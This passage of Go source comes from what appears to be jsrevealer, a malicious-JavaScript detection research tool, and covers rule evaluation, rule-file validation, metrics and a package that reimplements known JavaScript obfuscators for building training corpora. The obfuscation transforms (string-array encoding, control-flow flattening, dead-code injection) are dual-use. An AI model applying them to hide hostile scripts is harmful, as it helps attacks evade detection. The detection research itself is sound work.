	case opAll:
		ev := ""
		for _, k := range m.kids {
			kev, ok := ec.eval(k)
			if !ok {
				return "", false
			}
			if ev == "" {
				ev = kev
			}
		}
		return ev, true
	case opAny:
		for _, k := range m.kids {
			if ev, ok := ec.eval(k); ok {
				return ev, true
			}
		}
		return "", false
	case opNot:
		if _, ok := ec.eval(m.kids[0]); ok {
			return "", false
		}
		return "", true
	case opSubstring:
		for _, t := range ec.texts {
			if strings.Contains(t, m.str) {
				return m.str, true
			}
		}
		return "", false
	case opRegex:
		for _, t := range ec.texts {
			if loc := m.re.FindStringIndex(t); loc != nil {
				return t[loc[0]:loc[1]], true
			}
		}
		return "", false
	case opPath:
		return ec.evalPath(m.path)
	}
	return "", false
}

// evalPath counts extracted path contexts satisfying the predicate.
func (ec *evalCtx) evalPath(p *PathPred) (string, bool) {
	if !ec.pathsDone {
		ec.pathsDone = true
		if ec.prog != nil {
			ec.paths = pathctx.Extract(ec.prog, pathctx.DefaultOptions())
		}
	}
	min := p.MinCount
	if min < 1 {
		min = 1
	}
	n := 0
	for i := range ec.paths {
		pc := &ec.paths[i]
		if p.Source != "" && pc.Source != p.Source {
			continue
		}
		if p.Target != "" && pc.Target != p.Target {
			continue
		}
		if p.Node != "" && !containsNode(pc.Nodes, p.Node) {
			continue
		}
		n++
		if n >= min {
			return "path:" + pc.String(), true
		}
	}
	return "", false
}

func containsNode(nodes []string, want string) bool {
	for _, n := range nodes {
		if n == want {
			return true
		}
	}
	return false
}
