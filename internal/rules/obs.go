package rules

import "jsrevealer/internal/obs"

// Metric families emitted by the rules layer. Evaluation metrics land in the
// registry carried by the scan's context; reload metrics land in the
// registry the Holder was built with — both are the registry `jsrevealer
// serve` exposes on /metrics.
const (
	// EvalsMetric counts rule-set evaluations by outcome
	// (deny|force|allow|annotate|none).
	EvalsMetric = "jsrevealer_rules_evals_total"
	// HitsMetric counts rule matches, labeled per rule ID.
	HitsMetric = "jsrevealer_rules_hits_total"
	// ReloadMetric counts rule-set reload attempts by result (ok|error).
	ReloadMetric = "jsrevealer_rules_reload_total"
)

const (
	metricEvals  = EvalsMetric
	metricHits   = HitsMetric
	metricReload = ReloadMetric
	helpEvals    = "Rule-set evaluations by outcome."
	helpHits     = "Rule matches by rule ID."
	helpReload   = "Rule-set reload attempts by result."
)

// evalOutcomes is the closed label set of EvalsMetric.
var evalOutcomes = []string{"deny", "force", "allow", "annotate", "none"}

// RegisterMetrics pre-creates the closed-label rules metric series in reg
// (zero-valued), so an exposition endpoint shows the surface before the
// first evaluation. HitsMetric is labeled by rule ID and appears as rules
// fire; RegisterSetMetrics pre-creates it for a loaded set.
func RegisterMetrics(reg *obs.Registry) {
	for _, o := range evalOutcomes {
		reg.Counter(metricEvals, helpEvals, obs.Labels{"outcome": o})
	}
	for _, r := range []string{"ok", "error"} {
		reg.Counter(metricReload, helpReload, obs.Labels{"result": r})
	}
}

// RegisterSetMetrics pre-creates the per-rule hit series for every rule in
// s, so operators see zero-valued counters for rules that have never fired —
// the difference between "rule never matched" and "rule never loaded".
func RegisterSetMetrics(reg *obs.Registry, s *Set) {
	if s == nil {
		return
	}
	for _, cl := range s.deny {
		reg.Counter(metricHits, helpHits, obs.Labels{"rule": cl.id})
	}
	for _, cl := range s.allow {
		reg.Counter(metricHits, helpHits, obs.Labels{"rule": cl.id})
	}
	for _, cs := range s.sigs {
		reg.Counter(metricHits, helpHits, obs.Labels{"rule": cs.id})
	}
}
