// Rule-file parsing and structural validation. Everything here fails loudly:
// oversized files, unknown fields, bad versions, empty matchers, invalid
// regexes, and over-deep or over-wide match trees are errors, never
// best-effort partial loads — an operator must know when a rule is not live.
package rules

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
)

// Parse decodes and structurally validates one rule file. name is used only
// in error messages. Parse never panics on arbitrary input (FuzzRuleParse
// pins this); semantic checks that need the whole set — duplicate IDs across
// files, ref resolution, cycle detection — happen in Load.
func Parse(name string, data []byte) (*File, error) {
	if len(data) > MaxFileBytes {
		return nil, fmt.Errorf("rules: %s: file is %d bytes, limit %d", name, len(data), MaxFileBytes)
	}
	dec := json.NewDecoder(bytes.NewReader(data))
	dec.DisallowUnknownFields()
	var f File
	if err := dec.Decode(&f); err != nil {
		return nil, fmt.Errorf("rules: %s: %w", name, err)
	}
	if dec.More() {
		return nil, fmt.Errorf("rules: %s: trailing data after rule object", name)
	}
	if f.Version != Version {
		return nil, fmt.Errorf("rules: %s: version %d, want %d", name, f.Version, Version)
	}
	for i := range f.Allow {
		if err := validateList(&f.Allow[i]); err != nil {
			return nil, fmt.Errorf("rules: %s: allow[%d]: %w", name, i, err)
		}
	}
	for i := range f.Deny {
		if err := validateList(&f.Deny[i]); err != nil {
			return nil, fmt.Errorf("rules: %s: deny[%d]: %w", name, i, err)
		}
	}
	for i := range f.Signatures {
		if err := validateSignature(&f.Signatures[i]); err != nil {
			return nil, fmt.Errorf("rules: %s: signatures[%d]: %w", name, i, err)
		}
	}
	return &f, nil
}

// validSeverity reports whether sev is one of the declared severity levels.
func validSeverity(sev string) bool {
	switch sev {
	case SeverityInfo, SeverityLow, SeverityMedium, SeverityHigh, SeverityCritical:
		return true
	}
	return false
}

func validateList(r *ListRule) error {
	if r.ID == "" {
		return fmt.Errorf("missing id")
	}
	if r.Severity != "" && !validSeverity(r.Severity) {
		return fmt.Errorf("%s: unknown severity %q", r.ID, r.Severity)
	}
	n := len(r.Domains) + len(r.IPs) + len(r.TLDs) + len(r.Strings)
	if n == 0 {
		return fmt.Errorf("%s: list rule has no entries", r.ID)
	}
	if n > MaxListEntries {
		return fmt.Errorf("%s: %d entries, limit %d", r.ID, n, MaxListEntries)
	}
	for _, group := range [][]string{r.Domains, r.IPs, r.TLDs, r.Strings} {
		for _, e := range group {
			if e == "" {
				return fmt.Errorf("%s: empty list entry", r.ID)
			}
		}
	}
	return nil
}

func validateSignature(s *Signature) error {
	if s.ID == "" {
		return fmt.Errorf("missing id")
	}
	if s.Severity != "" && !validSeverity(s.Severity) {
		return fmt.Errorf("%s: unknown severity %q", s.ID, s.Severity)
	}
	if s.Match == nil {
		return fmt.Errorf("%s: missing match", s.ID)
	}
	nodes := 0
	return validateMatch(s.ID, s.Match, 1, &nodes)
}

// validateMatch checks one match node and its subtree: exactly one field
// set, depth and node-count budgets, compilable regexes, sane path
// predicates. depth is 1-based; nodes accumulates across the signature.
func validateMatch(id string, m *MatchNode, depth int, nodes *int) error {
	if m == nil {
		return fmt.Errorf("%s: null match node", id)
	}
	if depth > MaxMatchDepth {
		return fmt.Errorf("%s: match tree deeper than %d", id, MaxMatchDepth)
	}
	*nodes++
	if *nodes > MaxMatchNodes {
		return fmt.Errorf("%s: more than %d match nodes", id, MaxMatchNodes)
	}
	set := 0
	if len(m.All) > 0 {
		set++
	}
	if len(m.Any) > 0 {
		set++
	}
	if m.Not != nil {
		set++
	}
	if m.Substring != "" {
		set++
	}
	if m.Regex != "" {
		set++
	}
	if m.Path != nil {
		set++
	}
	if m.Ref != "" {
		set++
	}
	if set == 0 {
		return fmt.Errorf("%s: empty match node (set exactly one of all/any/not/substring/regex/path/ref)", id)
	}
	if set > 1 {
		return fmt.Errorf("%s: match node sets %d fields, want exactly one", id, set)
	}
	switch {
	case len(m.All) > 0:
		for _, c := range m.All {
			if err := validateMatch(id, c, depth+1, nodes); err != nil {
				return err
			}
		}
	case len(m.Any) > 0:
		for _, c := range m.Any {
			if err := validateMatch(id, c, depth+1, nodes); err != nil {
				return err
			}
		}
	case m.Not != nil:
		return validateMatch(id, m.Not, depth+1, nodes)
	case m.Regex != "":
		if len(m.Regex) > MaxRegexLen {
			return fmt.Errorf("%s: regex longer than %d bytes", id, MaxRegexLen)
		}
		if _, err := regexp.Compile(m.Regex); err != nil {
			return fmt.Errorf("%s: bad regex: %w", id, err)
		}
	case m.Path != nil:
		if m.Path.Source == "" && m.Path.Target == "" && m.Path.Node == "" {
			return fmt.Errorf("%s: path predicate constrains nothing", id)
		}
		if m.Path.MinCount < 0 {
			return fmt.Errorf("%s: negative min_count", id)
		}
	}
	return nil
}

// Load reads every *.json file under dir (sorted by name, non-recursive),
// parses and validates each, and compiles them into one immutable Set with
// Gen 0 (Holder stamps live generations). A directory with no rule files is
// an error — pointing the scanner at the wrong directory must not silently
// disable rules.
func Load(dir string) (*Set, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("rules: %w", err)
	}
	var names []string
	for _, e := range entries {
		if e.IsDir() || !strings.HasSuffix(e.Name(), ".json") {
			continue
		}
		names = append(names, e.Name())
	}
	sort.Strings(names)
	if len(names) == 0 {
		return nil, fmt.Errorf("rules: no *.json rule files in %s", dir)
	}
	var files []*File
	for _, n := range names {
		data, err := os.ReadFile(filepath.Join(dir, n))
		if err != nil {
			return nil, fmt.Errorf("rules: %w", err)
		}
		f, err := Parse(n, data)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}
	set, err := Compile(files)
	if err != nil {
		return nil, err
	}
	set.files = len(files)
	return set, nil
}
