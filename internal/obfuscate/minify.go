package obfuscate

import (
	"fmt"
	"strings"

	"jsrevealer/internal/js/lexer"
)

// Minifier strips comments and collapses whitespace — the transformation
// most benign web scripts ship with (over 60% of Alexa scripts per the
// measurement study the paper cites). It is applied by the corpus builder
// to part of the benign population.
type Minifier struct{}

// Name implements Obfuscator.
func (*Minifier) Name() string { return "Minify" }

// Obfuscate implements Obfuscator by re-lexing the source and emitting
// tokens with the minimum necessary separation.
func (*Minifier) Obfuscate(src string) (string, error) {
	toks, err := lexer.Tokenize(src)
	if err != nil {
		return "", fmt.Errorf("minify: %w", err)
	}
	var sb strings.Builder
	var prev lexer.Token
	have := false
	for _, t := range toks {
		if t.Kind == lexer.EOF {
			break
		}
		if have && needsSpace(prev, t) {
			sb.WriteByte(' ')
		}
		// ASI hazard: a statement-terminating token followed by a token that
		// could continue the statement on a new line must keep a newline so
		// minification never changes parse. We conservatively keep a newline
		// when the original had one and the next token starts a regex,
		// ++/--, or an open paren/bracket.
		if have && t.NewlineBefore && asiHazard(prev, t) {
			sb.WriteByte('\n')
		}
		sb.WriteString(t.Raw)
		prev, have = t, true
	}
	return sb.String(), nil
}

// needsSpace reports whether two adjacent tokens would merge without a
// separator.
func needsSpace(a, b lexer.Token) bool {
	wordy := func(t lexer.Token) bool {
		return t.Kind == lexer.Ident || t.Kind == lexer.Keyword || t.Kind == lexer.Number
	}
	if wordy(a) && wordy(b) {
		return true
	}
	if a.Kind == lexer.Punct && b.Kind == lexer.Punct {
		// Avoid forming longer operators: "+" "+" -> "++", "-" "-" -> "--",
		// "/" "/" -> comment, "<" "<" etc.
		joined := a.Literal + b.Literal
		switch {
		case strings.HasPrefix(joined, "++"), strings.HasPrefix(joined, "--"),
			strings.HasPrefix(joined, "//"), strings.HasPrefix(joined, "/*"):
			return true
		}
	}
	if a.Kind == lexer.Number && b.Kind == lexer.Punct && b.Literal == "." {
		return true
	}
	if a.Kind == lexer.Punct && a.Literal == "." && b.Kind == lexer.Number {
		return true
	}
	return false
}

// asiHazard reports whether removing the newline between a and b could
// change parsing under automatic semicolon insertion.
func asiHazard(a, b lexer.Token) bool {
	if a.Kind == lexer.Punct && a.Literal == ";" {
		return false
	}
	if b.Kind == lexer.Punct {
		switch b.Literal {
		case "(", "[", "+", "-", "/", "++", "--", "*", "`":
			return true
		}
	}
	if b.Kind == lexer.Regex {
		return true
	}
	// `return` / `break` / `continue` / `throw` followed by newline must
	// keep the newline (restricted productions).
	if a.Kind == lexer.Keyword {
		switch a.Literal {
		case "return", "break", "continue", "throw":
			return true
		}
	}
	// Conservative default: any statement-ending token followed by a token
	// that can begin a statement keeps the break.
	if a.Kind == lexer.Ident || a.Kind == lexer.Number || a.Kind == lexer.String ||
		(a.Kind == lexer.Punct && (a.Literal == ")" || a.Literal == "]" || a.Literal == "}")) {
		if b.Kind == lexer.Ident || b.Kind == lexer.Keyword || b.Kind == lexer.String ||
			b.Kind == lexer.Number {
			return true
		}
	}
	return false
}

// Registry returns the paper's four obfuscators plus the minifier, keyed by
// name, all seeded deterministically from the given base seed.
func Registry(seed int64) map[string]Obfuscator {
	return map[string]Obfuscator{
		"JavaScript-Obfuscator": &JavaScriptObfuscator{Seed: seed},
		"Jfogs":                 &Jfogs{Seed: seed + 1},
		"JSObfu":                &JSObfu{Seed: seed + 2},
		"Jshaman":               &Jshaman{Seed: seed + 3},
		"Minify":                &Minifier{},
	}
}

// PaperOrder lists the four evaluation obfuscators in the order the paper's
// tables use.
func PaperOrder() []string {
	return []string{"JavaScript-Obfuscator", "Jfogs", "JSObfu", "Jshaman"}
}
