package obfuscate

import (
	"fmt"
	"math/rand"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// LiteString is a lightweight string obfuscator representing the *unknown*
// in-the-wild tools the paper's training corpora contain. Its transformations
// are deliberately different in structure from the four evaluation
// obfuscators: strings become reversed-and-rejoined or array-join
// concatenations rather than string-array lookups (JavaScript-Obfuscator),
// fog references (Jfogs), or fromCharCode chains (JSObfu).
type LiteString struct {
	// Seed makes output deterministic.
	Seed int64
}

// Name implements Obfuscator.
func (*LiteString) Name() string { return "LiteString" }

// Obfuscate implements Obfuscator.
func (o *LiteString) Obfuscate(src string) (string, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return "", fmt.Errorf("litestring: parse: %w", err)
	}
	rng := rand.New(rand.NewSource(o.Seed ^ int64(len(src))*6364136223846793005))
	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		lit, ok := e.(*ast.Literal)
		if !ok || lit.Kind != ast.LiteralString || len(lit.StrVal) < 4 {
			return e
		}
		switch rng.Intn(3) {
		case 0:
			return reverseJoin(lit.StrVal)
		case 1:
			return arrayJoin(lit.StrVal, rng)
		default:
			return e
		}
	})
	return printer.Print(prog), nil
}

// reverseJoin emits "gnirts".split("").reverse().join("").
func reverseJoin(s string) ast.Expression {
	runes := []rune(s)
	for i, j := 0, len(runes)-1; i < j; i, j = i+1, j-1 {
		runes[i], runes[j] = runes[j], runes[i]
	}
	call := func(obj ast.Expression, method string, args ...ast.Expression) ast.Expression {
		return &ast.CallExpression{
			Callee: &ast.MemberExpression{
				Object:   obj,
				Property: &ast.Identifier{Name: method},
			},
			Arguments: args,
		}
	}
	empty := &ast.Literal{Kind: ast.LiteralString, StrVal: ""}
	rev := &ast.Literal{Kind: ast.LiteralString, StrVal: string(runes)}
	return call(call(call(rev, "split", empty), "reverse"), "join", empty)
}

// arrayJoin emits ["ab","cd","ef"].join("").
func arrayJoin(s string, rng *rand.Rand) ast.Expression {
	var parts []ast.Expression
	for len(s) > 0 {
		n := 2 + rng.Intn(4)
		if n > len(s) {
			n = len(s)
		}
		parts = append(parts, &ast.Literal{Kind: ast.LiteralString, StrVal: s[:n]})
		s = s[n:]
	}
	return &ast.CallExpression{
		Callee: &ast.MemberExpression{
			Object:   &ast.ArrayExpression{Elements: parts},
			Property: &ast.Identifier{Name: "join"},
		},
		Arguments: []ast.Expression{&ast.Literal{Kind: ast.LiteralString, StrVal: ""}},
	}
}
