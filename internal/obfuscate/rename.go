package obfuscate

import (
	"fmt"
	"math/rand"
	"sort"

	"jsrevealer/internal/js/ast"
)

// protectedNames are host/builtin identifiers an obfuscator must never
// rename even when a script shadows them, plus the names the obfuscators
// themselves inject.
var protectedNames = map[string]bool{
	"window": true, "document": true, "navigator": true, "location": true,
	"console": true, "Math": true, "JSON": true, "Date": true, "RegExp": true,
	"String": true, "Number": true, "Boolean": true, "Array": true,
	"Object": true, "Function": true, "Error": true, "TypeError": true,
	"eval": true, "unescape": true, "escape": true, "decodeURIComponent": true,
	"encodeURIComponent": true, "parseInt": true, "parseFloat": true,
	"isNaN": true, "setTimeout": true, "setInterval": true, "atob": true,
	"btoa": true, "XMLHttpRequest": true, "ActiveXObject": true,
	"WScript": true, "alert": true, "undefined": true, "arguments": true,
	"Promise": true, "fetch": true, "localStorage": true, "screen": true,
	"Uint8Array": true, "ArrayBuffer": true, "Worker": true, "Image": true,
	"NaN": true, "Infinity": true,
}

// declaredNames collects every name the program itself binds: variable
// declarations, function declarations and expressions, parameters, and
// catch parameters. Only these may be renamed.
func declaredNames(prog *ast.Program) map[string]bool {
	names := make(map[string]bool)
	ast.Walk(prog, func(n ast.Node) bool {
		switch v := n.(type) {
		case *ast.VariableDeclarator:
			names[v.ID.Name] = true
		case *ast.FunctionDeclaration:
			names[v.ID.Name] = true
			for _, p := range v.Params {
				names[p.Name] = true
			}
		case *ast.FunctionExpression:
			if v.ID != nil {
				names[v.ID.Name] = true
			}
			for _, p := range v.Params {
				names[p.Name] = true
			}
		case *ast.CatchClause:
			names[v.Param.Name] = true
		}
		return true
	})
	for n := range protectedNames {
		delete(names, n)
	}
	return names
}

// NameStyle selects how replacement identifiers look.
type NameStyle int

// Name styles.
const (
	// HexStyle produces _0x1a2b3c names (JavaScript-Obfuscator, Jshaman).
	HexStyle NameStyle = iota + 1
	// RandomWordStyle produces gibberish letter runs (JSObfu).
	RandomWordStyle
)

// renameAll renames every program-declared identifier consistently and
// returns the number of distinct names renamed. Property names (obj.prop,
// object-literal keys) are never touched — JavaScript property access must
// survive renaming.
func renameAll(prog *ast.Program, style NameStyle, rng *rand.Rand) int {
	decl := declaredNames(prog)
	if len(decl) == 0 {
		return 0
	}
	// Deterministic order for reproducible output.
	names := make([]string, 0, len(decl))
	for n := range decl {
		names = append(names, n)
	}
	sort.Strings(names)
	mapping := make(map[string]string, len(names))
	used := make(map[string]bool)
	for _, n := range names {
		for {
			candidate := freshName(style, rng)
			if !used[candidate] && !protectedNames[candidate] && !decl[candidate] {
				mapping[n] = candidate
				used[candidate] = true
				break
			}
		}
	}
	applyRename(prog, mapping)
	return len(mapping)
}

func freshName(style NameStyle, rng *rand.Rand) string {
	switch style {
	case RandomWordStyle:
		const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
		n := 6 + rng.Intn(8)
		b := make([]byte, n)
		for i := range b {
			b[i] = letters[rng.Intn(len(letters))]
		}
		return string(b)
	default:
		return fmt.Sprintf("_0x%04x%02x", rng.Intn(0x10000), rng.Intn(0x100))
	}
}

// computedMemberAccess rewrites every dotted member access obj.prop into
// the equivalent computed access obj["prop"], a transformation both
// javascript-obfuscator and JSObfu perform so that property names become
// string data. A transform hook, when non-nil, maps the property-name
// expression (letting JSObfu split the string immediately).
func computedMemberAccess(prog interface {
	Children() []ast.Node
	Type() string
}, transform func(*ast.Literal) ast.Expression) {
	p, ok := prog.(*ast.Program)
	if !ok {
		return
	}
	RewriteExpressions(p, func(e ast.Expression) ast.Expression {
		me, ok := e.(*ast.MemberExpression)
		if !ok || me.Computed {
			return e
		}
		id, ok := me.Property.(*ast.Identifier)
		if !ok {
			return e
		}
		lit := &ast.Literal{Kind: ast.LiteralString, StrVal: id.Name}
		me.Computed = true
		if transform != nil {
			me.Property = transform(lit)
		} else {
			me.Property = lit
		}
		return me
	})
}

// applyRename rewrites identifier references and binding occurrences per the
// mapping, skipping non-computed member properties and object keys.
func applyRename(prog *ast.Program, mapping map[string]string) {
	rename := func(id *ast.Identifier) {
		if id == nil {
			return
		}
		if to, ok := mapping[id.Name]; ok {
			id.Name = to
		}
	}
	var walkNode func(n ast.Node)
	walkNode = func(n ast.Node) {
		switch v := n.(type) {
		case *ast.MemberExpression:
			walkNode(v.Object)
			if v.Computed {
				walkNode(v.Property)
			}
			return
		case *ast.ObjectExpression:
			for _, p := range v.Properties {
				// Skip the key (a property name, not a binding).
				walkNode(p.Value)
			}
			return
		case *ast.Identifier:
			rename(v)
			return
		case *ast.LabeledStatement:
			// Labels share the identifier node type but live in their own
			// namespace; leaving them stable is safe and simpler.
			walkNode(v.Body)
			return
		case *ast.BreakStatement, *ast.ContinueStatement:
			return
		}
		for _, c := range n.Children() {
			walkNode(c)
		}
	}
	walkNode(prog)
}
