package obfuscate

import (
	"encoding/base64"
	"fmt"
	"math/rand"

	"jsrevealer/internal/js/ast"
	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/js/printer"
)

// JavaScriptObfuscator reproduces the signature transformations of the
// javascript-obfuscator npm tool: hex variable renaming, string-array
// extraction with base64 encoding and array rotation, control-flow
// flattening of straight-line statement runs, and dead-code injection.
type JavaScriptObfuscator struct {
	// Seed makes output deterministic.
	Seed int64
	// DisableFlattening turns off control-flow flattening (for ablations).
	DisableFlattening bool
	// DisableDeadCode turns off dead-code injection.
	DisableDeadCode bool
}

// Name implements Obfuscator.
func (*JavaScriptObfuscator) Name() string { return "JavaScript-Obfuscator" }

// Obfuscate implements Obfuscator.
func (o *JavaScriptObfuscator) Obfuscate(src string) (string, error) {
	prog, err := parser.Parse(src)
	if err != nil {
		return "", fmt.Errorf("javascript-obfuscator: parse: %w", err)
	}
	rng := rand.New(rand.NewSource(o.Seed ^ int64(len(src))*1315423911))

	renameAll(prog, HexStyle, rng)
	// Property access goes through computed string keys first so the string
	// array then swallows the property names too.
	computedMemberAccess(prog, nil)
	extractStringArray(prog, rng, "_0x5c3e")
	if !o.DisableFlattening {
		flattenControlFlow(prog, rng)
	}
	if !o.DisableDeadCode {
		injectDeadCode(prog, rng)
	}
	return printer.Print(prog), nil
}

// extractStringArray hoists string literals into a rotated global array with
// base64-encoded entries and replaces each use with a decoder call — the
// canonical string-array transformation.
func extractStringArray(prog *ast.Program, rng *rand.Rand, arrName string) {
	decoderName := arrName + "b"
	var pool []string
	index := make(map[string]int)

	RewriteExpressions(prog, func(e ast.Expression) ast.Expression {
		lit, ok := e.(*ast.Literal)
		if !ok || lit.Kind != ast.LiteralString || len(lit.StrVal) < 2 {
			return e
		}
		idx, seen := index[lit.StrVal]
		if !seen {
			idx = len(pool)
			index[lit.StrVal] = idx
			pool = append(pool, lit.StrVal)
		}
		return &ast.CallExpression{
			Callee: &ast.Identifier{Name: decoderName},
			Arguments: []ast.Expression{
				&ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(idx)},
			},
		}
	})
	if len(pool) == 0 {
		return
	}

	// Rotate the array by a random offset; the decoder compensates.
	rot := rng.Intn(len(pool))
	rotated := make([]ast.Expression, len(pool))
	for i, s := range pool {
		enc := base64.StdEncoding.EncodeToString([]byte(s))
		rotated[(i+rot)%len(pool)] = &ast.Literal{Kind: ast.LiteralString, StrVal: enc}
	}

	arrDecl := &ast.VariableDeclaration{
		Kind: "var",
		Declarations: []*ast.VariableDeclarator{{
			ID:   &ast.Identifier{Name: arrName},
			Init: &ast.ArrayExpression{Elements: rotated},
		}},
	}
	// function decoder(i) { return atob(arr[(i + rot) % arr.length]); }
	decoder := &ast.FunctionDeclaration{
		ID:     &ast.Identifier{Name: decoderName},
		Params: []*ast.Identifier{{Name: "i"}},
		Body: &ast.BlockStatement{Body: []ast.Statement{
			&ast.ReturnStatement{Argument: &ast.CallExpression{
				Callee: &ast.Identifier{Name: "atob"},
				Arguments: []ast.Expression{
					&ast.MemberExpression{
						Object:   &ast.Identifier{Name: arrName},
						Computed: true,
						Property: &ast.BinaryExpression{
							Operator: "%",
							Left: &ast.BinaryExpression{
								Operator: "+",
								Left:     &ast.Identifier{Name: "i"},
								Right:    &ast.Literal{Kind: ast.LiteralNumber, NumVal: float64(rot)},
							},
							Right: &ast.MemberExpression{
								Object:   &ast.Identifier{Name: arrName},
								Property: &ast.Identifier{Name: "length"},
							},
						},
					},
				},
			}},
		}},
	}
	prog.Body = append([]ast.Statement{arrDecl, decoder}, prog.Body...)
}

// flattenControlFlow rewrites runs of simple statements inside function
// bodies (and the top level) into a while-switch dispatcher driven by a
// shuffled order string — javascript-obfuscator's controlFlowFlattening.
func flattenControlFlow(prog *ast.Program, rng *rand.Rand) {
	counter := 0
	flattenList := func(body []ast.Statement) []ast.Statement {
		if !isFlattenable(body) {
			return body
		}
		n := len(body)
		// Shuffled execution order encoded as a pipe-separated index string.
		perm := rng.Perm(n)
		// stateOrder[k] = position in switch; we need the order string such
		// that visiting its entries in sequence executes body in order.
		orderStr := ""
		slot := make([]int, n) // slot[i] = case label for body[i]
		for caseIdx, bodyIdx := range perm {
			slot[bodyIdx] = caseIdx
		}
		for i := 0; i < n; i++ {
			if i > 0 {
				orderStr += "|"
			}
			orderStr += fmt.Sprintf("%d", slot[i])
		}
		counter++
		ordName := fmt.Sprintf("_0xod%d", counter)
		idxName := fmt.Sprintf("_0xoi%d", counter)

		cases := make([]*ast.SwitchCase, 0, n+1)
		for caseIdx, bodyIdx := range perm {
			cases = append(cases, &ast.SwitchCase{
				Test: &ast.Literal{Kind: ast.LiteralString, StrVal: fmt.Sprintf("%d", caseIdx)},
				Consequent: []ast.Statement{
					body[bodyIdx],
					&ast.ContinueStatement{},
				},
			})
		}

		// var ord = "...".split("|"), idx = 0;
		decl := &ast.VariableDeclaration{
			Kind: "var",
			Declarations: []*ast.VariableDeclarator{
				{
					ID: &ast.Identifier{Name: ordName},
					Init: &ast.CallExpression{
						Callee: &ast.MemberExpression{
							Object:   &ast.Literal{Kind: ast.LiteralString, StrVal: orderStr},
							Property: &ast.Identifier{Name: "split"},
						},
						Arguments: []ast.Expression{
							&ast.Literal{Kind: ast.LiteralString, StrVal: "|"},
						},
					},
				},
				{
					ID:   &ast.Identifier{Name: idxName},
					Init: &ast.Literal{Kind: ast.LiteralNumber, NumVal: 0},
				},
			},
		}
		// while (true) { switch (ord[idx++]) { ... } break; }
		loop := &ast.WhileStatement{
			Test: &ast.Literal{Kind: ast.LiteralBool, BoolVal: true},
			Body: &ast.BlockStatement{Body: []ast.Statement{
				&ast.SwitchStatement{
					Discriminant: &ast.MemberExpression{
						Object:   &ast.Identifier{Name: ordName},
						Computed: true,
						Property: &ast.UpdateExpression{
							Operator: "++",
							Argument: &ast.Identifier{Name: idxName},
						},
					},
					Cases: cases,
				},
				&ast.BreakStatement{},
			}},
		}
		return []ast.Statement{decl, loop}
	}

	ast.Walk(prog, func(n ast.Node) bool {
		switch fn := n.(type) {
		case *ast.FunctionDeclaration:
			fn.Body.Body = flattenList(fn.Body.Body)
		case *ast.FunctionExpression:
			fn.Body.Body = flattenList(fn.Body.Body)
		}
		return true
	})
	prog.Body = flattenList(prog.Body)
}

// isFlattenable reports whether a statement list can move into the switch
// dispatcher safely. The dispatcher preserves execution order (each case
// continues to the next ordered index), so most statement kinds qualify;
// the exceptions are statements carrying a break/continue bound *outside*
// the statement itself, which would retarget to the dispatcher loop.
func isFlattenable(body []ast.Statement) bool {
	if len(body) < 3 {
		return false
	}
	for _, s := range body {
		switch s.(type) {
		case *ast.ExpressionStatement, *ast.VariableDeclaration,
			*ast.FunctionDeclaration, *ast.ReturnStatement,
			*ast.ThrowStatement, *ast.EmptyStatement:
			// always safe
		case *ast.IfStatement, *ast.ForStatement, *ast.ForInStatement,
			*ast.WhileStatement, *ast.DoWhileStatement, *ast.SwitchStatement,
			*ast.TryStatement, *ast.BlockStatement:
			if containsFreeJump(s) {
				return false
			}
		default:
			return false
		}
	}
	return true
}

// containsFreeJump reports whether the statement contains a break or
// continue that binds outside of it (i.e. not enclosed by a loop or, for
// break, a switch, within the statement itself). Labelled jumps are always
// treated as free because their target may be anywhere.
func containsFreeJump(s ast.Statement) bool {
	var check func(n ast.Node, loopDepth, switchDepth int) bool
	check = func(n ast.Node, loopDepth, switchDepth int) bool {
		switch v := n.(type) {
		case *ast.BreakStatement:
			return v.Label != nil || (loopDepth == 0 && switchDepth == 0)
		case *ast.ContinueStatement:
			return v.Label != nil || loopDepth == 0
		case *ast.ForStatement, *ast.ForInStatement,
			*ast.WhileStatement, *ast.DoWhileStatement:
			loopDepth++
		case *ast.SwitchStatement:
			switchDepth++
		case *ast.FunctionDeclaration, *ast.FunctionExpression:
			// Jumps inside nested functions bind inside them.
			return false
		}
		for _, c := range n.Children() {
			if check(c, loopDepth, switchDepth) {
				return true
			}
		}
		return false
	}
	return check(s, 0, 0)
}

// deadCodeSnippets are the junk statements dead-code injection draws from.
func deadCodeSnippets(rng *rand.Rand, counter int) []ast.Statement {
	v1 := fmt.Sprintf("_0xdead%d", counter)
	pick := rng.Intn(3)
	switch pick {
	case 0:
		// var _0xdeadN = "gibberish" + "suffix";
		return []ast.Statement{&ast.VariableDeclaration{
			Kind: "var",
			Declarations: []*ast.VariableDeclarator{{
				ID: &ast.Identifier{Name: v1},
				Init: &ast.BinaryExpression{
					Operator: "+",
					Left:     &ast.Literal{Kind: ast.LiteralString, StrVal: fmt.Sprintf("g%x", rng.Intn(1<<24))},
					Right:    &ast.Literal{Kind: ast.LiteralString, StrVal: fmt.Sprintf("s%x", rng.Intn(1<<24))},
				},
			}},
		}}
	case 1:
		// if (false) { console.log("unreachable"); }
		return []ast.Statement{&ast.IfStatement{
			Test: &ast.Literal{Kind: ast.LiteralBool, BoolVal: false},
			Consequent: &ast.BlockStatement{Body: []ast.Statement{
				&ast.ExpressionStatement{Expression: &ast.CallExpression{
					Callee: &ast.MemberExpression{
						Object:   &ast.Identifier{Name: "console"},
						Property: &ast.Identifier{Name: "log"},
					},
					Arguments: []ast.Expression{
						&ast.Literal{Kind: ast.LiteralString, StrVal: fmt.Sprintf("u%x", rng.Intn(1<<24))},
					},
				}},
			}},
		}}
	default:
		// function _0xdeadN() { return Math.random() * K; } (never called)
		return []ast.Statement{&ast.FunctionDeclaration{
			ID: &ast.Identifier{Name: v1},
			Body: &ast.BlockStatement{Body: []ast.Statement{
				&ast.ReturnStatement{Argument: &ast.BinaryExpression{
					Operator: "*",
					Left: &ast.CallExpression{Callee: &ast.MemberExpression{
						Object:   &ast.Identifier{Name: "Math"},
